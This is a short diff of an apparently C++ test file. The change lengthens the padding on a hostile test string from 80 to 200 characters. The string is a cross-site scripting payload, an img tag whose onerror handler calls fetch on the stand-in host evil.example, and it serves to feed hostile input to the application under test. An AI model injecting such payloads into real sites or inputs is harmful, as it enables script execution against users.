@@ -8,7 +8,7 @@
 
 TEST_GROUP(AppOddData) {
   Stack& stack = Stack::running();
-  const std::string hostile = "<img src=x onerror=fetch('//evil.example')>" + std::string(80, 'W');
+  const std::string hostile = "<img src=x onerror=fetch('//evil.example')>" + std::string(200, 'W');
 
   // A session of which each text is hostile.
   void send_session(const Account& account) {
